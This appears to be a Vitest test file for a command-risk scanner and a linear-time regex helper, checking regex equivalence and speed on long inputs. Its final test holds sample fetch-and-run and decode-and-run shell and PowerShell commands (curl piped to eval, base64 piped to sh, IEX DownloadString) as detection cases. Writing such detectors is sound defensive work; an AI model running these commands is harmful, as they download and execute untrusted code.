import { describe, expect, it } from 'vitest';
import { commandSeverity } from '../../src/ecosystems/automation/command-risk.js';
import { anyOf, inOrderOnALine } from '../../src/ecosystems/util.js';

describe('inOrderOnALine: /first.+then/ without the quadratic backtracking', () => {
  const publish = inOrderOnALine(/\b(?:npm|mvn)\b/, /\b(?:publish|deploy)\b/);
  const statuses = inOrderOnALine(/\bgh\s+api\b/, /\/statuses\//, 0);

  it('answers as the regular expression it replaces', () => {
    const cases = ['npm publish', 'mvn -B deploy', 'npm  run build && npm publish --tag next', 'publish npm', 'npm\npublish', 'npm xpublish', 'npmpublish', 'mvn deploy-plugin', 'echo mvn; echo deploy', 'npm publish\r\n', 'deploy mvn deploy'];
    const regex = /\b(?:npm|mvn)\b.+\b(?:publish|deploy)\b/;
    for (const text of cases) expect(publish.test(text), text).toBe(regex.test(text));
    const regex0 = /\bgh\s+api\b.*\/statuses\//;
    for (const text of ['gh api repos/o/r/statuses/sha', 'gh api/statuses/', 'gh  api x', '/statuses/ gh api', 'gh api\n/statuses/']) expect(statuses.test(text), text).toBe(regex0.test(text));
    expect(anyOf(/a/, /b/).test('xbx')).toBe(true);
    expect(anyOf(/a/, /b/).test('xcx')).toBe(false);
  });

  it('stays linear on a long line of the first word without the second (the regex took seconds at this size)', () => {
    const line = 'npm '.repeat(60_000);
    const started = performance.now();
    expect(publish.test(line)).toBe(false);
    expect(inOrderOnALine(/\bgh\s+api\b/, /\/statuses\//, 0).test('gh api '.repeat(40_000))).toBe(false);
    expect(commandSeverity(`${'eval '.repeat(40_000)}x`, 'low')).toBe('low');
    expect(commandSeverity(`${'base64 -d '.repeat(30_000)}x`, 'low')).toBe('low');
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it('keeps what the automation command rule found', () => {
    expect(commandSeverity('echo aGk= | base64 -d | sh', 'low')).toBe('high');
    expect(commandSeverity('eval "$(curl -fsSL https://x.example/i)"', 'low')).toBe('high');
    expect(commandSeverity('powershell -c "IEX (New-Object Net.WebClient).DownloadString(u)"', 'low')).toBe('high');
    expect(commandSeverity('npm test', 'low')).toBe('low');
    expect(commandSeverity('curl -O https://x.example/f', 'low')).toBe('medium');
  });
});
